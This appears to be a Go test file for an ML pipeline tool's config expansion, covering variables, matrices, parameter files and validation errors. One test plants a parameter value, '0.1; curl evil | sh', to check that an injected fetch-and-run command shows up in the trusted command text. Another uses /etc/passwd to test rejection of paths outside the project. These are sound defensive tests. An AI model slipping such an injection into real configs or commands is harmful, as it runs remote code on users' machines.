package repo

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"mlx/internal/fault"
)

// expandText is the pipeline of a mlx.yaml and of other files beside it.
func expandText(t *testing.T, config string, files map[string]string) (*Pipeline, error) {
	t.Helper()
	c, err := ParseConfig([]byte(config))
	if err != nil {
		return nil, err
	}
	dir := t.TempDir()
	var dvc []string
	for name, text := range files {
		file := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		if strings.HasSuffix(name, DvcName) {
			dvc = append(dvc, name)
		}
	}
	p, err := c.pipeline(dvc, readIn(dir))
	if err != nil {
		return nil, err
	}
	return p, p.ReadParams(nil)
}

func TestStageWhole(t *testing.T) {
	p, err := expandText(t, `vars:
  dir: work
stages:
  train:
    cmd:
      - python train.py --depth ${depth} --seed ${item.seed} > ${dir}/${name}.log
      - 'echo "$HOME \${HOME} $${HOME}" # done'
    dir: src
    deps: [src/train.py, raw.csv.dvc]
    outs: ["${dir}/${key}.pkl", "${dir}/${name}.log"]
    params: [train.lr, "params.yaml:train.deep,seed", conf.json, "conf.json:a.b"]
    metrics: ["${dir}/${key}.json"]
    env: {OMP_NUM_THREADS: 1, RUN: "${name}"}
    matrix: {depth: [4], seed: [1, 2]}
    retries: 2
    timeout: 5m
    always: true
    register: {flights: "${dir}/${key}.pkl"}
`, map[string]string{"params.yaml": "train: {lr: 1e-3, deep: {x: [1, a]}}\nseed: 7\n", "conf.json": `{"a": {"b": true}}`})
	if err != nil {
		t.Fatal(err)
	}
	s, ok := p.Step("train@depth=4,seed=2")
	if !ok {
		t.Fatalf("%q", namesAndCommands(p))
	}
	at := func(line, column int) fault.Position {
		return fault.Position{File: "mlx.yaml", Line: line, Column: column}
	}
	place := func(path string, line, column int) Place { return Place{path, at(line, column)} }
	want := &Step{
		Name: "train@depth=4,seed=2", Group: "train", Folder: "src", Retries: 2, Timeout: 5 * time.Minute, Always: true, At: at(5, 5),
		Cmd: "( python train.py --depth 4 --seed 2 > work/train@depth=4,seed=2.log ) && (\necho \"$HOME ${HOME} ${HOME}\" # done\n)",
		Trust: "OMP_NUM_THREADS=1 RUN='${name}' ( python train.py --depth ${depth} --seed ${item.seed} > ${dir}/${name}.log ) && (\n" +
			`echo "$HOME \${HOME} $${HOME}" # done` + "\n)",
		Deps: []Place{place("src/train.py", 9, 12), place("raw.csv", 9, 26)},
		Outs: []StepOut{{Place: place("work/depth=4,seed=2.pkl", 10, 12)}, {Place: place("work/train@depth=4,seed=2.log", 10, 33)},
			{Place: place("work/depth=4,seed=2.json", 12, 15), Metrics: true}},
		Params: []StepParam{
			{File: "params.yaml", Key: "train.lr", Value: 0.001, At: at(11, 14)},
			{File: "params.yaml", Key: "train.deep", Value: map[string]any{"x": []any{int64(1), "a"}}, At: at(11, 24)},
			{File: "params.yaml", Key: "seed", Value: int64(7), At: at(11, 24)},
			{File: "conf.json", Value: map[string]any{"a": map[string]any{"b": true}}, At: at(11, 55)},
			{File: "conf.json", Key: "a.b", Value: true, At: at(11, 66)},
		},
		Env:      map[string]string{"OMP_NUM_THREADS": "1", "RUN": "train@depth=4,seed=2"},
		Register: map[string]string{"flights": "work/depth=4,seed=2.pkl"},
	}
	if diff := cmp.Diff(want, s); diff != "" {
		t.Error(diff)
	}
}

func TestForeachNames(t *testing.T) {
	p, err := expandText(t, `stages:
  words: {cmd: "x ${item}", foreach: [a, 2, 0.5]}
  rows: {cmd: "x ${item.n} ${key}", foreach: [{n: 1}, {n: 2}]}
  named: {cmd: "x ${item.n} ${key}", foreach: {lax: {n: 1}, jfk: {n: 2}}}
`, nil)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"words@a: x a", "words@2: x 2", "words@0.5: x 0.5", "rows@0: x 1 0", "rows@1: x 2 1", "named@lax: x 1 lax", "named@jfk: x 2 jfk"}
	if diff := cmp.Diff(want, namesAndCommands(p)); diff != "" {
		t.Error(diff)
	}
}

// TestWhoseVariable holds the rule about ${WORD}: what is defined is filled in, what looks like a slip is an error, the rest is the
// shell's, unless the stage works with variables.
func TestWhoseVariable(t *testing.T) {
	for _, c := range []struct{ name, stage, params, cmd, message string }{
		{"shell", "cmd: 'echo ${HOME} ${HOME:-x} $HOME ${#x}'", "", "echo ${HOME} ${HOME:-x} $HOME ${#x}", ""},
		{"value", "cmd: 'echo ${depth} ${train.lr}'", "depth: 3\ntrain: {lr: 0.1}\n", "echo 3 0.1", ""},
		{"list", "cmd: 'echo ${l[1]} ${l.0}'", "l: [a, b]\n", "echo b a", ""},
		{"slip", "cmd: 'echo ${dpeth}'", "depth: 3\n", "", `unknown variable "${dpeth}"`},
		{"dotted", "cmd: 'echo ${train.lr}'", "", "", `unknown variable "${train.lr}"`},
		{"in a matrix", "{cmd: 'echo ${HOME}', matrix: {a: [1]}}", "", "", `unknown variable "${HOME}"`},
		{"env of the stage", "{cmd: 'echo ${MODE}', matrix: {a: [1]}, env: {MODE: x}}", "", "echo ${MODE}", ""},
		{"in a path", "{cmd: x, outs: ['${HOME}/a']}", "", "", `unknown variable "${HOME}"`},
		{"escaped", `cmd: 'echo \${depth} $${depth} $$'`, "depth: 3\n", "echo ${depth} ${depth} $$", ""},
		{"name", "cmd: 'echo ${name}'", "", "echo s", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			config := "stages:\n  s:\n    " + c.stage + "\n"
			if strings.HasPrefix(c.stage, "{") {
				config = "stages:\n  s: " + c.stage + "\n"
			}
			p, err := expandText(t, config, map[string]string{"params.yaml": c.params})
			switch {
			case c.message == "" && err != nil:
				t.Fatal(err)
			case c.message == "":
				if p.Steps[0].Cmd != c.cmd {
					t.Errorf("%q", p.Steps[0].Cmd)
				}
			case err == nil || !strings.HasSuffix(err.Error(), c.message):
				t.Errorf("%v", err)
			}
		})
	}
}

func TestStageMistakes(t *testing.T) {
	for _, c := range []struct{ name, text, message, hint string }{
		{"loop", "stages:\n  a: {cmd: x, deps: [c.txt], outs: [a.txt]}\n  b: {cmd: x, deps: [a.txt], outs: [b.txt]}\n  c: {cmd: x, deps: [b.txt], outs: [c.txt]}\n",
			"cannot read mlx.yaml: line 2, column 6: the stages form a loop: a -> b -> c -> a", "edit mlx.yaml   # one of them must not read what a later one writes"},
		{"two write", "stages:\n  a: {cmd: x, outs: [m]}\n  b: {cmd: x, outs: [./m]}\n", "cannot read mlx.yaml: line 3, column 22: stages a and b both write m",
			"edit mlx.yaml   # the other is at mlx.yaml, line 2"},
		{"matrix writes one", "stages:\n  a: {cmd: \"x ${k}\", outs: [m], matrix: {k: [1, 2]}}\n", "cannot read mlx.yaml: line 2, column 29: stages a@k=1 and a@k=2 both write m",
			"edit mlx.yaml   # put a variable into the path, so that each stage has its own"},
		{"twice in one", "stages:\n  a: {cmd: x, outs: [m, m]}\n", "cannot read mlx.yaml: line 2, column 25: stage a lists the output m twice", ""},
		{"inside", "stages:\n  a: {cmd: x, outs: [m]}\n  b: {cmd: x, outs: [m/b]}\n", "cannot read mlx.yaml: line 3, column 22: output m/b of stage b is inside output m of stage a",
			"edit mlx.yaml   # list the folder, or the files in it"},
		{"own input", "stages:\n  a: {cmd: x, deps: [m], outs: [m/x]}\n", "cannot read mlx.yaml: line 2, column 22: stage a reads m, which is its own output",
			"edit mlx.yaml   # a stage cannot wait for itself"},
		{"outside", "stages:\n  a: {cmd: x, outs: [../m]}\n", `cannot read mlx.yaml: line 2, column 22: "../m" is outside the project`, "mlx import ../m PATH   # copies it in"},
		{"absolute", "stages:\n  a: {cmd: x, deps: [/etc/passwd]}\n", `cannot read mlx.yaml: line 2, column 22: "/etc/passwd" is outside the project`, "mlx import /etc/passwd PATH   # copies it in"},
		{"all", "stages:\n  a: {cmd: x, outs: [.]}\n", `cannot read mlx.yaml: line 2, column 22: "." is the whole project`, ""},
		{"dir outside", "stages:\n  a: {cmd: x, dir: ..}\n", `cannot read mlx.yaml: line 2, column 20: ".." is outside the project`, ""},
		{"value twice", "stages:\n  a: {cmd: \"x ${k}\", matrix: {k: [1, 2, 1]}}\n", `cannot read mlx.yaml: line 2, column 41: "1" is in the list twice`, ""},
		{"empty matrix", "stages:\n  a: {cmd: x, matrix: {}}\n", "cannot read mlx.yaml: line 2, column 6: the matrix of stage a is empty", ""},
		{"no values", "stages:\n  a: {cmd: x, matrix: {k: []}}\n", "cannot read mlx.yaml: line 2, column 24: k of the matrix has no values", ""},
		{"no list", "stages:\n  a: {cmd: x, matrix: {k: 1}}\n", `cannot read mlx.yaml: line 2, column 27: k of the matrix needs a list, not "1"`, ""},
		{"huge matrix", "stages:\n  a: {cmd: x, matrix: {a: " + numbers(400) + ", b: " + numbers(400) + "}}\n",
			"cannot read mlx.yaml: line 2, column 23: the matrix of stage a makes more than 100000 stages", ""},
		{"both", "stages:\n  a: {cmd: x, matrix: {k: [1]}, foreach: [1]}\n", "cannot read mlx.yaml: line 2, column 6: stage a has both matrix and foreach", ""},
		{"variable", "stages:\n  a: {cmd: \"x ${item.dpeth}\", foreach: [{depth: 1}]}\n", `cannot read mlx.yaml: line 2, column 12: unknown variable "${item.dpeth}"`, `did you mean "${item.depth}"?`},
		{"name", "stages:\n  a@b: {cmd: x}\n", `cannot read mlx.yaml: line 2, column 8: a stage cannot be called "a@b"`, `names have no space and none of @ : / , \ * ? [ ]`},
		{"no file of parameters", "stages:\n  a: {cmd: x, params: [lr]}\n", "cannot read mlx.yaml: line 2, column 24: stage a needs lr of params.yaml, which does not exist",
			"edit params.yaml   # one line a parameter: key: value"},
		{"name of a model", "stages:\n  a: {cmd: x, outs: [m.pkl], register: {\"a@b\": m.pkl}}\n", "cannot read mlx.yaml: line 2, column 6: stage a registers a model called \"a@b\": a name holds no / : and @", ""},
		{"register", "stages:\n  a: {cmd: x, outs: [m.pkl], register: {f: m.pk}}\n", "cannot read mlx.yaml: line 2, column 6: stage a registers f from m.pk, which is not among its outputs",
			`did you mean "m.pkl"? outputs are m.pkl`},
		{"empty command", "stages:\n  a: {cmd: \" \"}\n", "cannot read mlx.yaml: line 2, column 12: the command of stage a is empty", ""},
		{"our variable", "stages:\n  a: {cmd: x, env: {MLX_RUN_ID: 1}}\n", `cannot read mlx.yaml: line 2, column 33: "MLX_RUN_ID" cannot be a variable of the environment`, ""},
		{"unknown key", "stages:\n  a: {cmd: x, output: [b]}\n", `cannot read mlx.yaml: line 2, column 15: unknown key "output"`,
			"keys are cmd, dir, deps, outs, params, metrics, env, matrix, foreach, on, resources, retries, timeout, always, register"},
		{"always", "stages:\n  a: {cmd: x, always: often}\n", `cannot read mlx.yaml: line 2, column 23: needs true or false, not "often"`, ""},
		{"monitor", "stages:\n  train: {cmd: x}\nmonitors:\n  m: {current: a, reference: b, on_drift: {repro: trian}}\n",
			`cannot read mlx.yaml: line 4, column 43: monitor m names the unknown stage "trian"`, `did you mean "train"? mlx.yaml has train`},
		{"two samples", "samples:\n  a: {rows: 1, path: b}\n", "cannot read mlx.yaml: line 2, column 6: a sample has exactly one subject: path, cmd or rows (at least 1)", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, err := expandText(t, c.text, nil)
			checkMistake(t, err, c.message, c.hint)
		})
	}
}

func numbers(n int) string {
	words := make([]string, n)
	for i := range words {
		words[i] = fmt.Sprint(i)
	}
	return "[" + strings.Join(words, ", ") + "]"
}

func TestParamMistakes(t *testing.T) {
	for _, c := range []struct{ name, word, file, text, message, hint string }{
		{"key", "train.dpeth", "params.yaml", "train: {depth: 1, seed: 2}\n", `cannot read mlx.yaml: line 2, column 24: params.yaml has no key "train.dpeth"`,
			`did you mean "train.depth"? params.yaml has train.depth, train.seed`},
		{"yaml", "train.depth", "params.yaml", "train: [1\n", "cannot read params.yaml: line 1, column 8: sequence end token ']' not found", ""},
		{"json", "'p.json:a'", "p.json", "{\n  \"a\": 1,\n}\n", "cannot read p.json: line 3, column 1: invalid character '}' looking for beginning of object key string", ""},
		{"json twice", "'p.json:a'", "p.json", "{\"a\": 1,\n\"a\": 2}\n", `cannot read p.json: line 2: key "a" appears twice`, ""},
		{"json end", "'p.json:a'", "p.json", "{\"a\": [1", "cannot read p.json: line 1: unexpected EOF", ""},
		{"json more", "'p.json:a'", "p.json", "{} {}", "cannot read p.json: line 1: something follows the value", ""},
		{"toml", "'p.toml:a'", "p.toml", "[x]\na = \n", "cannot read p.toml: line 2, column 5: incomplete number", ""},
		{"list", "a", "params.yaml", "- a\n", "cannot read params.yaml: line 1, column 1: needs keys and values, not a list", ""},
		{"python", "'p.py:Net.dept'", "p.py", "class Net:\n  depth = 3\n", `cannot read mlx.yaml: line 2, column 24: p.py has no key "Net.dept"`, `did you mean "Net.depth"? p.py has Net.depth`},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, err := expandText(t, "stages:\n  a: {cmd: x, params: ["+c.word+"]}\n", map[string]string{c.file: c.text})
			checkMistake(t, err, c.message, c.hint)
		})
	}
}

func TestParamsOfAnotherStage(t *testing.T) {
	p, err := expandText(t, "stages:\n  tune: {cmd: x, outs: [best.json]}\n  train: {cmd: x, params: ['best.json:lr']}\n", nil)
	if err != nil {
		t.Fatal(err)
	}
	train, _ := p.Step("train")
	if !train.Params[0].Missing || len(p.Before(1)) != 1 {
		t.Errorf("%+v waits for %v", train.Params, p.Before(1))
	}
}

func TestPythonParams(t *testing.T) {
	got, err := pythonTree("p.py", []byte(`"""A text
LR = 9
"""
LR = 1e-3  # rate
N: int = 1_000
NAMES = ["a", 'b#c', (1, -2.5)]
TABLE = {
    "x": True,  # yes
    "y": None,
}
BASE = LR * 2
if LR > 1:
    LR = 5
def f():
    N = 6
class Net(object):
    """Doc."""
    depth = 4
    def __init__(self, x=3):
        self.width = 'w\n\'q\''
        local = 7
    def other(self):
        self.late = 1
`))
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]any{"LR": 0.001, "N": int64(1000), "NAMES": []any{"a", "b#c", []any{int64(1), -2.5}},
		"TABLE": map[string]any{"x": true, "y": nil}, "Net": map[string]any{"depth": int64(4), "width": "w\n'q'"}}
	if diff := cmp.Diff(want, got.plain()); diff != "" {
		t.Error(diff)
	}
}

func TestOneNamespace(t *testing.T) {
	_, err := expandText(t, "stages:\n  train: {cmd: x}\n", map[string]string{"dvc.yaml": "stages:\n  train:\n    cmd: y\n"})
	checkMistake(t, err, "cannot read dvc.yaml: line 2, column 3: stage train is already defined in mlx.yaml, line 2",
		"edit dvc.yaml   # one namespace: give one of the two another name")
}

// TestTrustOfValues holds that words of a file of values cannot become a command that nobody has seen.
func TestTrustOfValues(t *testing.T) {
	p, err := expandText(t, "stages:\n  a: {cmd: 'x ${lr}', env: {A: 1}}\n  b: {cmd: 'x ${bad}', env: {A: 1}}\n", map[string]string{"params.yaml": "lr: 0.1 --fast\nbad: 0.1; curl evil | sh\n"})
	if err != nil {
		t.Fatal(err)
	}
	if got := p.Steps[0].Trust; got != "A=1 x ${lr}" {
		t.Errorf("%q", got)
	}
	if got := p.Steps[1].Trust; got != "A=1 x 0.1; curl evil | sh" {
		t.Errorf("%q", got)
	}
}
